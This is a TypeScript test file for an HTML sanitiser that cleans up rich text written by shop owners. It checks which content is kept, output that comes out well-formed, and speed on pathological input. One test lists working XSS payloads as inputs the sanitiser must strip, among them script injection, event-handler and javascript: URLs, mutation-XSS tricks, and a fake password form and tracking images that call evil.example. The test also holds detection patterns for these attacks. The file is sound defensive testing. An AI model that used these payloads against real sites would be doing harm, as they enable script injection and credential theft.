import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { cheapestMs } from '#test/cheapest.ts'
import { richText } from './rich-text.ts'

describe('HTML that a shop owner wrote', () => {
  test('keeps text, lists, tables and links', async () => {
    const { html, text } =
      await richText(`<h1>Thank you</h1><p>Read <b>this</b> &amp; <a href="https://books.example/a?b=1&c=2">the
      manual</a>.<br>Bye</p><ul><li>One</li><li>Two</li></ul><table><tr><td>A</td><td>B</td></tr></table>
      <p>Ask <a href="mailto:jo@books.example">jo@books.example</a>, or <a href="https://x.example">https://x.example</a></p>`)
    assert.match(
      html,
      /^<h3 style="[^"]*">Thank you<\/h3><p>Read <b>this<\/b> &amp; <a href="https:\/\/books\.example\/a\?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">/,
    )
    assert.match(html, /<td style="[^"]*">A<\/td>/)
    assert.equal(
      text,
      [
        'Thank you',
        '',
        'Read this & the manual (https://books.example/a?b=1&c=2).',
        'Bye',
        '',
        '- One',
        '- Two',
        '',
        'A  B',
        '',
        'Ask jo@books.example, or https://x.example',
      ].join('\n'),
    )
  })

  test('that is nothing but space, or tags, says nothing', async () => {
    for (const empty of ['', ' \n', '<p></p>', '<p> <br></p>', '<img src="https://x.example/p.png">', '<!-- -->'])
      assert.deepEqual(await richText(empty), { html: '', text: '' }, empty)
  })

  test('loses whatever runs, loads, or looks like something else', async () => {
    for (const hostile of [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
      '<img src=x onerror=alert(1)>',
      '<svg onload=alert(1)><script>alert(1)</script></svg>',
      '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="java\nscript:alert(1)">x</a>',
      '<a href="&#106;avascript:alert(1)">x</a>',
      '<a href="\u0001javascript:alert(1)">x</a>',
      '<a href="data:text/html,<script>alert(1)</script>">x</a>',
      '<a href="//evil.example">x</a>',
      '<a href="/relative">x</a>',
      '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" id="a" class="b">x</a>',
      '<p style="background:url(https://evil.example/p.gif)">x</p>',
      '<td style="background:url(https://evil.example/p.gif)" colspan="999999999">x</td>',
      '<table background="https://evil.example/p.gif"><tr><td>x</td></tr></table>',
      '<iframe src="https://evil.example"></iframe>',
      '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
      '<link rel=stylesheet href=https://evil.example/x.css><meta http-equiv=refresh content="0;url=https://evil.example">',
      '<base href="https://evil.example/"><a href="x">x</a>',
      '<style>@import "https://evil.example/x.css"</style>',
      '</div></body></html><script>alert(1)</script>',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
      '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
      '<video><source onerror="alert(1)"></video>',
      '<p><!--[if mso]><img src="https://evil.example/p.png"><![endif]--></p>',
    ]) {
      const { html } = await richText(`before ${hostile} after`)
      assert.match(html, /before/)
      assert.doesNotMatch(
        html,
        /<(script|img|svg|math|style|iframe|form|input|button|link|meta|base|video|source|!)/i,
        hostile,
      )
      assert.doesNotMatch(html, /\son\w+=|javascript:|data:|url\(|src=|background=|999|position|class=|id=/i, hostile)
      assert.doesNotMatch(html, /<\/(div|body|html)>/i, hostile)
      assert.doesNotMatch(html, /href="(?!https:\/\/ok\.example)/, hostile)
    }
  })

  test('is as well-formed as it is harmless, whatever it was', async () => {
    const piece = fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '=',
      '/',
      '<a href=',
      '<td ',
      '<b>',
      '</b>',
      'on',
      'x',
      '&',
      '<!--',
      '<p',
      '\n',
      '&lt;',
    )
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 40 }), async (pieces) => {
        const { html } = await richText(pieces.join(''))
        const open: string[] = []
        for (const [, slash, tag = ''] of html.matchAll(/<(\/?)([a-z0-9]+)[^<>]*>/g)) {
          if (tag === 'br' || tag === 'hr') continue
          if (slash === '') open.push(tag)
          else assert.equal(open.pop(), tag, html)
        }
        assert.deepEqual(open, [], html)
        assert.doesNotMatch(html.replace(/<\/?[a-z0-9]+[^<>]*>/g, ''), /[<>]/)
      }),
    )
  })

  // A quadratic search takes seconds for each of these.
  test('costs little, however deep or odd it is', async () => {
    const pieces = [
      '<b>',
      '<div><table><tr><td>',
      '<',
      '<a href="',
      '&',
      '<p>x',
      '</p>',
      '<!--',
      '<td colspan=1>',
      '<br>',
    ]
    const odd = pieces.map((piece) => piece.repeat(65_535 / piece.length))
    const blanks = [' '.repeat(65_000), '\u00a0'.repeat(65_000), '&nbsp;'.repeat(10_000), '<b> </b>'.repeat(8_000)]
    for (const text of [...odd, ...blanks, ...blanks.map((blank) => `<pre>x${blank}x</pre>`)]) {
      const ms = await cheapestMs(1000, () => richText(text))
      assert.ok(ms < 1000, `${text.slice(0, 30)} took ${ms} ms`)
    }
  })
})
